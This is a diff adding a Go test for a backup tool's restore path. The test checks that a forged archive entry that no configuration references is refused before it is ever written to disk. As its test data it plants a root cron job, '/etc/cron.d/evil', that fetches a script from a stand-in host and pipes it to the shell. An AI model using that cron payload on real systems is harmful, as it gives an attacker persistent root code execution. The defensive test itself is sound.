@@ -1,10 +1,14 @@
 package backup
 
 import (
+	"context"
+	"errors"
 	"os"
 	"path/filepath"
 	"syscall"
 	"testing"
+
+	bprofile "github.com/stella-ops/stella-mirror/backup/profile"
 )
 
 // TestRefusedRestoreKeepsExistingFolderOwners: a forged archive (here
@@ -48,4 +52,37 @@ func TestRefusedRestoreKeepsExistingFolderOwners(t *testing.T) {
 	if fi.Mode().Perm() != 0o755 {
 		t.Errorf("%s has mode %v after the refused restore, want 0755 as before", existing, fi.Mode().Perm())
 	}
+}
+
+// TestUnreferencedEntryNeverWritten: restore --to / puts files on a live
+// host, where a file in /etc/cron.d is acted on the moment it exists. An
+// entry no restored configuration references must be refused before it
+// is written, not written and removed again: when the configurations are
+// loaded (the rules need them), nothing but the configurations (and their
+// folders) may be under the root yet.
+func TestUnreferencedEntryNeverWritten(t *testing.T) {
+	p := newProfile(t)
+	res, err := testBackup(Options{Configs: p.configs, OutDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	fg := unpack(t, res.Archive)
+	fg.add("/etc/cron.d/evil", "0644", "config", []byte("* * * * * root sh -c 'curl evil|sh'\n"))
+	root := filepath.Join(t.TempDir(), "root")
+	evil := filepath.Join(root, "etc", "cron.d")
+	seen := ""
+	_, err = testRestore(RestoreOptions{Archive: fg.write(t, testSigningKey, nil), Root: root,
+		References: func(ctx context.Context, root string, configs []string, maps []PathMapping) ([]Reference, error) {
+			if _, err := os.Lstat(evil); err == nil {
+				seen = listTree(t, evil)
+			}
+			return bprofile.References(ctx, root, configs, maps)
+		}})
+	if !errors.Is(err, ErrRefused) {
+		t.Fatalf("err = %v, want ErrRefused", err)
+	}
+	if seen != "" {
+		t.Errorf("the unreferenced entry was written before the rules refused it:\n%s", seen)
+	}
+	emptyDir(t, root)
 }
